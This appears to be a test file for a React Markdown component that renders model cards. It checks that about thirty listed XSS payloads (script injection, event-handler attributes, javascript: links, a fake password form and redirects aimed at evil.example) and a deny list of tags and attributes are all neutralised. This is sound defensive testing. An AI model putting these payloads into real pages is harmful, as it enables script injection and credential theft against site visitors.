import { cleanup, render } from '@testing-library/react'
import { MemoryRouter } from 'react-router'
import { afterEach, describe, expect, it } from 'vitest'

import { addressesOf } from '@/lib/cardAddress'
import { CARD_HTML } from '@/lib/cardHtml'
import { Markdown } from '@/ui/Markdown'

const addresses = addressesOf({ kind: 'model', owner: 'lab', name: 'm', revision: 'main' })

function shown(text: string): HTMLElement {
  return render(
    <MemoryRouter>
      <Markdown text={text} addresses={addresses} html={CARD_HTML} />
    </MemoryRouter>,
  ).container
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x.png" onload="alert(1)" style="position:fixed">',
  '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2.gif 2x">',
  '<picture><source srcset="https://evil.example/2.gif"><img src="//evil.example/a.gif" alt="a"></picture>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvA&#x09;script:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:x" ping="https://evil.example" target="_top" download>x</a>',
  '[x](javascript:alert(1))',
  '![x](javascript:alert(1))',
  '<svg onload=alert(1)><script>alert(1)</script><use href="data:image/svg+xml,x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="https://evil.example"><input name=password type=password><button formaction=x>Sign in</button></form>',
  '<input type=checkbox onclick=alert(1) autofocus onfocus=alert(1)>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x"><applet code=x></applet>',
  '<link rel=stylesheet href="//evil.example/x.css"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="https://evil.example/">',
  '<style>body{display:none}</style><div style="position:fixed;inset:0" class="ant-modal">over everything</div>',
  '<div id="root"></div><a name="csrf"></a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src="https://evil.example/a.mp4" autoplay onerror=alert(1)></video><audio src=x></audio>',
  '<template><img src=x onerror=alert(1)></template><textarea></textarea><select><option>x</select>',
  '<body onload=alert(1) background="https://evil.example/b.png">',
  '<td background="https://evil.example/b.png">x</td>',
  '`<script>alert(1)</script>`\n\n<!-- --!><img src=x onerror=alert(1)> -->',
]
const FORBIDDEN =
  'script, style, iframe, object, embed, applet, form, button, textarea, select, link, meta, base, svg, math, video, audio, source, template'

describe('HTML in a card', () => {
  afterEach(cleanup)

  it.each(ATTACKS)('does nothing: %s', (attack) => {
    const root = shown(`before\n\n${attack}\n\nafter`)
    expect(root.querySelectorAll(FORBIDDEN)).toHaveLength(0)
    for (const element of root.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^(on.*|style|srcset|ping|action|formaction|background|srcdoc|download)$/i)
        if (name === 'href' || name === 'src')
          expect(value.replace(/\s/g, '')).not.toMatch(/^(javascript|data|vbscript):/i)
        if (name === 'src') expect(value).toMatch(/^\/lab\/m\/resolve\/main\//)
        if (name === 'id' || name === 'name') expect(value).toMatch(/^card-/)
        if (name === 'class') expect(value).not.toContain('ant-')
      }
    }
    expect(root.textContent).toContain('before')
  })

  it('says where it stands, how large it is, and what folds', () => {
    const root = shown(
      '<div align="center">\n  <img src="figures/图.png" width="400" alt="loss"/>\n\n  **bold**\n</div>\n\n' +
        '<details>\n<summary>More</summary>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n</details>\n\n' +
        '<table><tr><td colspan="2" align="right">x<sub>2</sub></td></tr></table>',
    )
    expect(root.querySelector('div[align=center] strong')?.textContent).toBe('bold')
    const picture = root.querySelector('div[align=center] img')
    expect(picture?.getAttribute('src')).toBe('/lab/m/resolve/main/figures/%E5%9B%BE.png')
    expect(picture?.getAttribute('width')).toBe('400')
    expect(root.querySelector('details summary')?.textContent).toBe('More')
    expect(root.querySelector('details table td')?.textContent).toBe('1')
    const cell = root.querySelector<HTMLElement>('td[colspan="2"]')
    expect([cell?.querySelector('sub')?.textContent, cell?.style.textAlign]).toEqual(['2', 'right'])
  })

  it('shows what stands for a picture that lies elsewhere', () => {
    const root = shown('<a href="https://example.cn"><img src="https://example.cn/badge.svg" alt="badge"></a>')
    expect(root.querySelector('img')).toBeNull()
    expect(root.querySelector('a em')?.textContent).toBe('badge')
  })

  it('leads from a table of contents to the headings', () => {
    const root = shown('[用法](#用法-usage) [^1]\n\n## 用法 (Usage)\n\n- [x] done\n\n[^1]: note')
    const [link] = root.querySelectorAll('a')
    expect(decodeURIComponent(link?.getAttribute('href') ?? '')).toBe('#card-用法-usage')
    expect(root.querySelector('h2')?.id).toBe('card-用法-usage')
    const note = root.querySelector('sup a')?.getAttribute('href') ?? ''
    expect(root.querySelector(`li[id="${note.slice(1)}"]`)).not.toBeNull()
    expect(root.querySelector('input')?.disabled).toBe(true)
  })

  it('is plain text where a text is no card', () => {
    const root = render(<Markdown text={'<b>bold</b>'} />).container
    expect(root.querySelector('b')).toBeNull()
    expect(root.textContent).toContain('<b>bold</b>')
  })

  it('may be nested deeper than anybody reads', () => {
    expect(shown(`${'<div>'.repeat(300)}deep`).textContent).toContain('deep')
  })
})
